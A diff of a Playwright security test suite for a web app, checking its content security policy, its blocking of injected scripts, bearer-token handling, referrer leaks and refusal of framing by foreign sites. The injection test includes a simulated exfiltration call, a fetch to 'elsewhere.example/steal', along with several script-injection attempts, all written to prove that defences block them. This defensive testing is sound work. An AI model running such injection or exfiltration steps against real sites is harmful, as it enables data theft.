@@ -2,11 +2,10 @@ import type { Request } from '@playwright/test'
 import { expectDashboard, expectSignInPage, signUpAndIn } from '../pages/auth-pages.ts'
 import { expect, test } from '../support/fixtures.ts'
 
-test('[X31] every page carries the strict policy and a nonce of its own', async ({ page }) => {
+test('[X31] Every page has the strict content security policy and its own nonce', async ({ request }) => {
   const nonces = new Set<string>()
   for (const path of ['/', '/sign-in', '/dashboard', '/no/such/page']) {
-    const response = await page.goto(path)
-    const headers = response?.headers() ?? {}
+    const headers = (await request.get(path)).headers()
     const policy = headers['content-security-policy'] ?? ''
     expect(policy).toContain("default-src 'none'")
     expect(policy).toContain("script-src 'self';")
@@ -24,21 +23,21 @@ test('[X31] every page carries the strict policy and a nonce of its own', async 
   expect(nonces.size).toBe(4)
 })
 
-test.describe('a script that got into the page', () => {
-  test.use({ provoked: /Content policy violated|Content Security Policy|TrustedScript|TrustedHTML/ })
+test.describe('an injected script', () => {
+  test.use({ expectedProblems: /Content policy violated|Content Security Policy|TrustedScript|TrustedHTML/ })
 
-  test('[X09] does not run, by twelve ways in', async ({ page }) => {
+  test('[X09] An injected script does not run, whichever of twelve ways it takes', async ({ page }) => {
     await page.goto('/sign-in')
     await expectSignInPage(page)
     const reports: string[] = []
     page.on('console', (message) => reports.push(message.text()))
     const outcome = await page.evaluate(async () => {
-      const refusals: string[] = []
+      const blocked: string[] = []
       const attempt = (name: string, act: () => void) => {
         try {
           act()
         } catch {
-          refusals.push(name)
+          blocked.push(name)
         }
       }
       attempt('text of a script', () => {
@@ -82,11 +81,11 @@ test.describe('a script that got into the page', () => {
       const frame = document.createElement('iframe')
       frame.src = 'https://elsewhere.example/'
       document.body.append(frame)
-      await fetch('https://elsewhere.example/steal').catch(() => refusals.push('foreign call'))
-      return { wasRun: 'wasRun' in window, refusals }
+      await fetch('https://elsewhere.example/steal').catch(() => blocked.push('foreign call'))
+      return { wasRun: 'wasRun' in window, blocked }
     })
     expect(outcome.wasRun).toBe(false)
-    expect(outcome.refusals).toEqual([
+    expect(outcome.blocked).toEqual([
       'text of a script',
       'address of a script',
       'inner HTML',
@@ -106,7 +105,7 @@ test.describe('a script that got into the page', () => {
   })
 })
 
-test('[X01] [R-7-01] [R-7-02] [R-7-03] in a whole journey every call goes to our host, and only those that need it carry the bearer', async ({
+test('[X01] [R-7-01] [R-7-02] [R-7-03] From sign-up to sign-out every call goes to our host, only calls that need it carry the bearer token, and no address or referrer holds a token', async ({
   page,
   addresses,
   inbox,
@@ -114,14 +113,18 @@ test('[X01] [R-7-01] [R-7-02] [R-7-03] in a whole journey every call goes to our
 }) => {
   const calls: Request[] = []
   const foreign: string[] = []
+  const referrers: string[] = []
   page.on('request', (request) => {
     const { origin, pathname } = new URL(request.url())
+    const referrer = request.headers()['referer']
+    if (referrer) referrers.push(referrer)
     if (origin !== addresses.url) foreign.push(request.url())
     else if (pathname.startsWith('/api/')) calls.push(request)
   })
   await page.goto('/sign-up')
   await signUpAndIn(page, inbox, visitor)
   await expectDashboard(page)
+  expect(page.url()).toBe(`${addresses.url}/dashboard`)
   await expect(page.getByRole('banner')).toContainText('5 pages left')
   await page.getByRole('link', { name: 'History', exact: true }).click()
   await expect(page.getByText('No processes found.')).toBeVisible()
@@ -129,6 +132,7 @@ test('[X01] [R-7-01] [R-7-02] [R-7-03] in a whole journey every call goes to our
   await expectSignInPage(page)
 
   expect(foreign).toEqual([])
+  expect(referrers).toEqual([])
   const carried = new Map(
     calls.map((call) => [
       new URL(call.url()).pathname.replace('/api/v1', '').replace(/(verify-email)\/.*/, '$1'),
@@ -150,32 +154,14 @@ test('[X01] [R-7-01] [R-7-02] [R-7-03] in a whole journey every call goes to our
 })
 
 test.describe('a page of another site', () => {
-  test.use({ provoked: /frame|foreign host|Refused|Content Security Policy/i })
+  test.use({ expectedProblems: /frame|foreign host|Refused|Content Security Policy/i })
 
-  test('[X31] cannot show ours in a frame', async ({ page, addresses }) => {
+  test('[X31] A page of another site cannot show ours in a frame', async ({ page, addresses }) => {
     await page.route('http://elsewhere.example/', (route) =>
       route.fulfill({ contentType: 'text/html', body: `<iframe src="${addresses.url}/sign-in"></iframe>` }),
     )
     await page.goto('http://elsewhere.example/')
-    // Chromium shows its own page in place of one that forbids it.
+    // Chromium shows its error page in place of one that forbids framing.
     await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
   })
-})
-
-test('tokens never show in an address, and the secret of a link is not passed on', async ({
-  page,
-  addresses,
-  inbox,
-  visitor,
-}) => {
-  const referrers: string[] = []
-  page.on('request', (request) => {
-    const referrer = request.headers()['referer']
-    if (referrer) referrers.push(referrer)
-  })
-  await page.goto('/sign-up')
-  await signUpAndIn(page, inbox, visitor)
-  await expectDashboard(page)
-  expect(page.url()).toBe(`${addresses.url}/dashboard`)
-  expect(referrers).toEqual([])
 })
